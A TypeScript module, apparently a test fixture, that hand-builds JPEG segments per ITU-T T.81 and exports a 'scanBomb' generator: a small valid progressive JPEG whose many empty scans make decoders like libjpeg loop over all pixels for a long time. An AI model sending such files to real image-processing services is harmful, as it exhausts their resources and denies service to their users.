// What JPEGs are made of, as ITU-T T.81 says in annex B.

/** Numbers of two bytes, the higher first. */
const big = (...values: readonly number[]): Buffer => Buffer.from(values.flatMap((value) => [value >> 8, value & 0xff]))

/** A part of a JPEG: marker, length, content. */
export const segment = (marker: number, ...content: readonly Uint8Array[]): Buffer => {
  const data = Buffer.concat(content)
  return Buffer.concat([Buffer.from([0xff, marker]), big(data.length + 2), data])
}

export const soi = Buffer.from([0xff, 0xd8])
export const eoi = Buffer.from([0xff, 0xd9])
export const quantization = segment(0xdb, Buffer.from([0]), Buffer.alloc(64, 1))

/** A Huffman table of one code, a single zero bit, for one symbol. */
const table = (kind: 0x00 | 0x10, symbol: number): Buffer =>
  segment(0xc4, Buffer.from([kind, 1]), Buffer.alloc(15), Buffer.from([symbol]))

export const frame = (marker: number, width: number, height: number): Buffer =>
  segment(marker, Buffer.from([8]), big(height, width), Buffer.from([1, 1, 0x11, 0]))

export const scanHeader = (from: number, to: number): Buffer => segment(0xda, Buffer.from([1, 1, 0, from, to, 0]))

/** "Nothing follows in the next 32,767 blocks": a zero bit, and 14 ones. */
const endOfBand = (runs: number): Buffer => {
  const bits = '011111111111111'.repeat(runs)
  const padded = bits.padEnd(Math.ceil(bits.length / 8) * 8, '1')
  const bytes = (padded.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2))
  // In a scan, a byte FF is followed by 00.
  return Buffer.from(bytes.flatMap((byte) => (byte === 0xff ? [byte, 0] : [byte])))
}

const blocksOf = (width: number, height: number): number => Math.ceil(width / 8) * Math.ceil(height / 8)

/** One scan without anything in it, as small as it can be. libjpeg goes over all blocks for it and warns of nothing. */
export const emptyScan = (width: number, height: number): Buffer =>
  Buffer.concat([scanHeader(1, 63), endOfBand(Math.ceil(blocksOf(width, height) / 32_767))])

/**
 * A small grey JPEG that is valid and makes a decoder go over its pixels as often as is asked: 2,647 times over 7,000 × 7,000
 * take half a minute, and no limit on pixels helps.
 */
export const scanBomb = (width: number, height: number, scans: number): Buffer => {
  const first = [scanHeader(0, 0), Buffer.alloc(Math.ceil(blocksOf(width, height) / 8))]
  const more = new Array<Buffer>(scans - 1).fill(emptyScan(width, height))
  return Buffer.concat([
    soi,
    quantization,
    table(0x00, 0),
    table(0x10, 0xe0),
    frame(0xc2, width, height),
    ...first,
    ...more,
    eoi,
  ])
}
